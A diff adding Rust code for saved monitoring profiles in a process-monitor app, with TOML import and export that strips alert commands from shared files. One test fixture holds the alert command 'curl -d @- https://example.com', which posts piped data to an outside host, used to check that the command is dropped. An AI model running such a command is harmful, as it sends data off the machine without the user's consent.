@@ -0,0 +1,264 @@
+use crate::components::alerts::{AlertRule, Severity};
+use crate::components::i18n::tr_format;
+#[cfg(not(target_arch = "wasm32"))]
+use crate::components::settings::UPDATE_INTERVAL_MS;
+use crate::components::settings::{Settings, Theme};
+use crate::metrics::process::{MetricType, ProcessIdentifier};
+use std::collections::BTreeMap;
+
+/// Alert rule of a profile, with its identifier in string form (`pid:1234`)
+#[derive(serde::Deserialize, serde::Serialize, Debug, Clone, PartialEq)]
+pub struct ProfileAlert {
+    pub identifier: String,
+    pub metric: MetricType,
+    /// Percent for CPU and GPU, bytes for memory
+    pub threshold: f64,
+    pub severity: Severity,
+    #[serde(default = "enabled")]
+    pub enabled: bool,
+    #[serde(default)]
+    pub command: String,
+}
+
+fn enabled() -> bool {
+    true
+}
+
+impl From<&AlertRule> for ProfileAlert {
+    fn from(rule: &AlertRule) -> Self {
+        Self {
+            identifier: rule.identifier.to_string(),
+            metric: rule.metric,
+            threshold: rule.threshold,
+            severity: rule.severity,
+            enabled: rule.enabled,
+            command: rule.command.clone(),
+        }
+    }
+}
+
+impl ProfileAlert {
+    pub fn to_rule(&self) -> AlertRule {
+        let mut rule = AlertRule::new(self.identifier.as_str().into(), self.metric, self.threshold);
+        rule.severity = self.severity;
+        rule.enabled = self.enabled;
+        rule.command = self.command.clone();
+        rule
+    }
+}
+
+/// Watch list with the intervals, alert rules and theme that go with it.
+/// Identifiers are kept as strings so exported files read like the command line.
+#[derive(serde::Deserialize, serde::Serialize, Debug, Clone, PartialEq)]
+pub struct Profile {
+    pub name: String,
+    #[serde(default)]
+    pub monitored: Vec<String>,
+    pub update_interval_ms: usize,
+    /// Identifiers sampled at their own interval, in milliseconds
+    #[serde(default)]
+    pub interval_overrides: BTreeMap<String, usize>,
+    #[serde(default)]
+    pub alerts: Vec<ProfileAlert>,
+    #[serde(default)]
+    pub theme: Theme,
+}
+
+impl Profile {
+    /// Profile of the current setup
+    pub fn capture(
+        name: String,
+        monitored: &[ProcessIdentifier],
+        settings: &Settings,
+        rules: &[AlertRule],
+    ) -> Self {
+        Self {
+            name,
+            monitored: monitored.iter().map(ProcessIdentifier::to_string).collect(),
+            update_interval_ms: settings.update_interval_ms,
+            interval_overrides: settings
+                .interval_overrides
+                .iter()
+                .map(|(identifier, interval_ms)| (identifier.to_string(), *interval_ms))
+                .collect(),
+            alerts: rules.iter().map(ProfileAlert::from).collect(),
+            theme: settings.theme,
+        }
+    }
+
+    pub fn identifiers(&self) -> Vec<ProcessIdentifier> {
+        self.monitored
+            .iter()
+            .map(|identifier| identifier.trim())
+            .filter(|identifier| !identifier.is_empty())
+            .map(ProcessIdentifier::from)
+            .collect()
+    }
+
+    pub fn interval_overrides(&self) -> Vec<(ProcessIdentifier, usize)> {
+        self.interval_overrides
+            .iter()
+            .map(|(identifier, interval_ms)| (identifier.as_str().into(), *interval_ms))
+            .collect()
+    }
+
+    /// "3 processes, 2 alerts, every 1000 ms"
+    pub fn summary(&self) -> String {
+        tr_format(
+            "{} processes, {} alerts, every {} ms",
+            &[
+                &self.monitored.len(),
+                &self.alerts.len(),
+                &self.update_interval_ms,
+            ],
+        )
+    }
+
+    #[cfg(not(target_arch = "wasm32"))]
+    pub fn to_toml(&self) -> Result<String, String> {
+        toml::to_string_pretty(self).map_err(|err| err.to_string())
+    }
+
+    /// Parses a profile from a file. Intervals outside [`UPDATE_INTERVAL_MS`] are
+    /// rejected, and alert commands are dropped so a shared file can't run anything.
+    #[cfg(not(target_arch = "wasm32"))]
+    pub fn from_toml(text: &str) -> Result<Self, String> {
+        let mut profile: Self = toml::from_str(text).map_err(|err| err.to_string())?;
+        if profile.name.trim().is_empty() {
+            return Err("The profile has no name".to_string());
+        }
+        let intervals = std::iter::once(("update_interval_ms", &profile.update_interval_ms)).chain(
+            profile
+                .interval_overrides
+                .iter()
+                .map(|(identifier, interval_ms)| (identifier.as_str(), interval_ms)),
+        );
+        for (key, interval_ms) in intervals {
+            if !UPDATE_INTERVAL_MS.contains(interval_ms) {
+                return Err(format!(
+                    "{key}: {interval_ms} ms is outside {}..={} ms",
+                    UPDATE_INTERVAL_MS.start(),
+                    UPDATE_INTERVAL_MS.end()
+                ));
+            }
+        }
+        for alert in &mut profile.alerts {
+            alert.command.clear();
+        }
+        Ok(profile)
+    }
+
+    /// Writes `tvis_profile_<name>.toml` to the working directory
+    #[cfg(not(target_arch = "wasm32"))]
+    pub fn export(&self) -> Result<std::path::PathBuf, String> {
+        let slug: String = self
+            .name
+            .chars()
+            .map(|c| if c.is_alphanumeric() { c } else { '_' })
+            .collect();
+        let path = std::path::PathBuf::from(format!("tvis_profile_{slug}.toml"));
+        std::fs::write(&path, self.to_toml()?)
+            .map_err(|err| format!("Failed to write {}: {err}", path.display()))?;
+        Ok(path)
+    }
+
+    #[cfg(not(target_arch = "wasm32"))]
+    pub fn import(path: &std::path::Path) -> Result<Self, String> {
+        let text = std::fs::read_to_string(path)
+            .map_err(|err| format!("Failed to read {}: {err}", path.display()))?;
+        Self::from_toml(&text).map_err(|err| format!("{}: {err}", path.display()))
+    }
+}
+
+/// What the app should do with a profile, handled after the window is drawn
+#[derive(Debug, Clone)]
+pub enum ProfileRequest {
+    /// Switch to the profile's watch list and settings
+    Apply(Profile),
+    /// Save the current setup under this name, replacing a profile of the same name
+    SaveCurrent(String),
+}
+
+#[derive(serde::Deserialize, serde::Serialize, Default)]
+#[serde(default)]
+pub struct Profiles {
+    pub profiles: Vec<Profile>,
+    /// Name of the profile last applied or saved
+    pub active: Option<String>,
+    #[serde(skip)]
+    pub(super) show_window: bool,
+    #[serde(skip)]
+    pub(super) name_draft: String,
+    #[serde(skip)]
+    pub(super) import_path: String,
+    /// Outcome of the last save, import or export
+    #[serde(skip)]
+    pub(super) status: Option<Result<String, String>>,
+    #[serde(skip)]
+    pub(super) request: Option<ProfileRequest>,
+}
+
+impl Profiles {
+    pub fn toggle_window(&mut self) {
+        self.show_window = !self.show_window;
+    }
+
+    pub fn take_request(&mut self) -> Option<ProfileRequest> {
+        self.request.take()
+    }
+
+    /// Adds `profile`, replacing the one with the same name
+    pub fn insert(&mut self, profile: Profile) {
+        match self
+            .profiles
+            .iter_mut()
+            .find(|old| old.name == profile.name)
+        {
+            Some(old) => *old = profile,
+            None => self.profiles.push(profile),
+        }
+    }
+
+    pub fn set_status(&mut self, status: Result<String, String>) {
+        self.status = Some(status);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PROFILE: &str = r#"
+name = "web"
+monitored = ["nginx"]
+update_interval_ms = 1000
+
+[interval_overrides]
+nginx = 500
+
+[[alerts]]
+identifier = "nginx"
+metric = "Cpu"
+threshold = 90.0
+severity = "Critical"
+command = "curl -d @- https://example.com"
+"#;
+
+    #[test]
+    fn imported_profiles_drop_alert_commands() {
+        let profile = Profile::from_toml(PROFILE).unwrap();
+        assert_eq!(profile.alerts.len(), 1);
+        assert_eq!(profile.alerts[0].command, "");
+        assert_eq!(profile.interval_overrides["nginx"], 500);
+    }
+
+    #[test]
+    fn imported_intervals_must_be_in_range() {
+        let fast = PROFILE.replace("update_interval_ms = 1000", "update_interval_ms = 1");
+        assert!(Profile::from_toml(&fast)
+            .unwrap_err()
+            .starts_with("update_interval_ms"));
+        let slow = PROFILE.replace("nginx = 500", "nginx = 86400000");
+        assert!(Profile::from_toml(&slow).unwrap_err().starts_with("nginx"));
+    }
+}